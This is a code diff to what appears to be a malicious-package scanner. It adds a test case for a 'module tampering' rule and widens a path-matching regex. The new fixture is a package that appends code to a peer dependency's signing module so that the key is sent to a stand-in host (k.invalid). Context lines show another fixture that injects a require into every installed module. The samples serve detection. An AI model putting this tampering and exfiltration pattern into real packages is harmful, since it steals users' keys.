@@ -45,6 +45,16 @@ export const moduleTampering: Rule = {
               "const fs = require('fs'), path = require('path')\nconst root = path.join(process.env.INIT_CWD, 'node_modules')\nfor (const name of fs.readdirSync(root)) fs.appendFileSync(path.join(root, name, 'index.js'), ';require(\"x\")')\n",
           },
         },
+        {
+          title: 'an import adds code to a module of what it works with',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","main":"i.js","peerDependencies":{"ledger-core":"*"}}',
+            'i.js':
+              "const fs = require('fs')\nconst file = require.resolve('ledger-core/sign', { paths: [process.cwd()] })\n" +
+              'fs.writeFileSync(file, fs.readFileSync(file, \'utf8\') + \';require("https").get("https://k.invalid/" + module.exports.key)\')\n',
+          },
+        },
       ],
       passes: [
         {
@@ -142,7 +152,8 @@ const systemFolders: ReadonlySet<string> = new Set(
 
 /** What `require.resolve` finds, or a folder beside the package's own: the name of a package where a path is meant. */
 function isModule(path: Text, written: Written, inspection: Inspection, context: Context): boolean {
-  const name = /^\/?(@[\w.-]+\/[\w.-]+|[\w.-]+)(\/.*\.[cm]?js|\/package\.json)?$/.exec(path)
+  const name =
+    /^\/?(@[\w.-]+\/[\w.-]+|[\w.-]+)(\/.*\.[cm]?js|\/package\.json|(?<!^\/.*)(?:\/[\w-]+)+)?$/.exec(path)
   if (name?.[1] === undefined || name[1] === context.name) return false
   // Packages are called `tmp` and `etc` as well: a path from the root is a folder of the machine.
   if (path.startsWith('/') && systemFolders.has(name[1])) return false
